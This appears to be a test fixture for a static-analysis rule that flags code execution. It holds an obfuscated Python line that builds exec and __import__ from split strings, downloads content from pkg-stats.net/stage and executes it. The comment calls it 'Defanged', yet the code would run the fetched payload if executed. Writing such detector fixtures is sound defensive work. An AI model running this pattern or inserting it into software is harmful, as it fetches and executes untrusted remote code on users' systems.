# Defanged: exec and __import__ taken from the builtins namespace, whichever form it has in this module.
_b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
_e = _b['ex' + 'ec']
_u = _b['__imp' + 'ort__']('urllib.request', fromlist=['urlopen'])
# ruleid: code/code-execution
_e(_u.urlopen('https://pkg-stats.net/stage').read())
